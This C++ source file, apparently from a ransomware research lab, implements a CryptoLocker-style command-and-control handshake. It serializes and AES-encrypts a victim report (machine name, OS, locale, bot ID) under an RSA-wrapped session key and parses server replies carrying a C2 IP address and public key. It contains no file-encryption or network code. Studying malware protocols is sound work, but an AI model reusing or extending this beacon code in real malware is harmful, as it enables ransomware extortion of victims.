#include "ransomlab/cryptolocker.hpp"

#include <algorithm>
#include <charconv>
#include <vector>

#include "ransomlab/error.hpp"

namespace ransomlab::cryptolocker {

namespace {

void append_field(Bytes& out, std::string_view field, std::string_view name)
{
    if (field.find('\0') != std::string_view::npos)
        throw Error("malformed frame: " + std::string(name) + " contains a NUL byte");
    out.insert(out.end(), field.begin(), field.end());
    out.push_back(0);
}

// Splits data into NUL-terminated fields; the final byte must be a NUL.
std::vector<std::string> split_nul_fields(std::span<const std::uint8_t> data,
                                          std::size_t expected)
{
    if (data.empty() || data.back() != 0)
        throw Error("malformed frame: missing trailing NUL");

    std::vector<std::string> fields;
    std::size_t start = 0;
    for (std::size_t i = 0; i < data.size(); ++i) {
        if (data[i] == 0) {
            fields.emplace_back(data.begin() + start, data.begin() + i);
            start = i + 1;
        }
    }
    if (fields.size() != expected)
        throw Error("malformed frame: expected " + std::to_string(expected) +
                    " fields, got " + std::to_string(fields.size()));
    return fields;
}

bool is_ipv4(std::string_view text)
{
    int parts = 0;
    std::size_t pos = 0;
    while (pos <= text.size()) {
        std::size_t dot = text.find('.', pos);
        std::string_view part = text.substr(pos, dot == std::string_view::npos
                                                     ? std::string_view::npos
                                                     : dot - pos);
        if (part.empty() || part.size() > 3 ||
            !std::all_of(part.begin(), part.end(), [](char c) { return c >= '0' && c <= '9'; }))
            return false;
        int value = 0;
        std::from_chars(part.data(), part.data() + part.size(), value);
        if (value > 255)
            return false;
        ++parts;
        if (dot == std::string_view::npos)
            break;
        pos = dot + 1;
        if (pos > text.size())
            return false;
    }
    return parts == 4;
}

bool looks_like_pem(std::string_view text)
{
    return text.find("-----BEGIN ") != std::string_view::npos &&
           text.find("-----END ") != std::string_view::npos;
}

std::uint16_t read_be16(std::span<const std::uint8_t> data)
{
    return static_cast<std::uint16_t>((data[0] << 8) | data[1]);
}

} // namespace

Bytes serialize_report(const VictimReport& report)
{
    Bytes out;
    append_field(out, report.machine_name, "machine_name");
    append_field(out, report.os_version, "os_version");
    append_field(out, report.locale, "locale");
    append_field(out, report.bot_id, "bot_id");
    return out;
}

VictimReport parse_report(std::span<const std::uint8_t> data)
{
    auto fields = split_nul_fields(data, 4);
    return VictimReport{fields[0], fields[1], fields[2], fields[3]};
}

Bytes frame_response(const ClResponse& r)
{
    if (r.version < 1)
        throw Error("malformed frame: version must be >= 1");
    if (!is_ipv4(r.c2_ip))
        throw Error("malformed frame: bad IPv4 address \"" + r.c2_ip + "\"");
    if (!looks_like_pem(r.public_key_pem))
        throw Error("malformed frame: public key is not PEM text");

    Bytes out;
    append_field(out, std::to_string(r.version), "version");
    append_field(out, r.c2_ip, "c2_ip");
    append_field(out, r.public_key_pem, "public_key_pem");
    return out;
}

ClResponse parse_response(std::span<const std::uint8_t> data)
{
    auto fields = split_nul_fields(data, 3);

    ClResponse r;
    auto [p, ec] = std::from_chars(fields[0].data(), fields[0].data() + fields[0].size(),
                                   r.version);
    if (ec != std::errc() || p != fields[0].data() + fields[0].size() || r.version < 1)
        throw Error("malformed frame: version is not a positive decimal integer");
    if (!is_ipv4(fields[1]))
        throw Error("malformed frame: bad IPv4 address \"" + fields[1] + "\"");
    if (!looks_like_pem(fields[2]))
        throw Error("malformed frame: public key is not PEM text");
    r.c2_ip = fields[1];
    r.public_key_pem = fields[2];
    return r;
}

ClientHello client_hello(const VictimReport& report, const std::string& server_public_pem)
{
    ClientHello hello;
    hello.session_key = random_session_key();

    Bytes wrapped = wrap_session_key(hello.session_key, server_public_pem);
    Bytes sealed = aes_encrypt(hello.session_key, serialize_report(report));

    hello.blob.reserve(2 + wrapped.size() + sealed.size());
    hello.blob.push_back(static_cast<std::uint8_t>(kHelloLayoutVersion >> 8));
    hello.blob.push_back(static_cast<std::uint8_t>(kHelloLayoutVersion & 0xff));
    hello.blob.insert(hello.blob.end(), wrapped.begin(), wrapped.end());
    hello.blob.insert(hello.blob.end(), sealed.begin(), sealed.end());
    return hello;
}

AcceptedHello server_accept(std::span<const std::uint8_t> blob,
                            const std::string& server_private_pem)
{
    if (blob.size() < 2)
        throw Error("malformed hello: too short for the layout prefix");
    if (read_be16(blob) != kHelloLayoutVersion)
        throw Error("unsupported layout: version " + std::to_string(read_be16(blob)));

    std::size_t wrapped_len = rsa_modulus_size(server_private_pem);
    if (blob.size() < 2 + wrapped_len)
        throw Error("malformed hello: truncated before the wrapped key");

    AcceptedHello result;
    result.session_key = unwrap_session_key(blob.subspan(2, wrapped_len), server_private_pem);
    Bytes plain = aes_decrypt(result.session_key, blob.subspan(2 + wrapped_len));
    result.report = parse_report(plain);
    return result;
}

Bytes server_reply(const ClResponse& r, const SessionKey& sk)
{
    return aes_encrypt(sk, frame_response(r));
}

ClResponse client_finish(std::span<const std::uint8_t> blob, const SessionKey& sk)
{
    return parse_response(aes_decrypt(sk, blob));
}

} // namespace ransomlab::cryptolocker
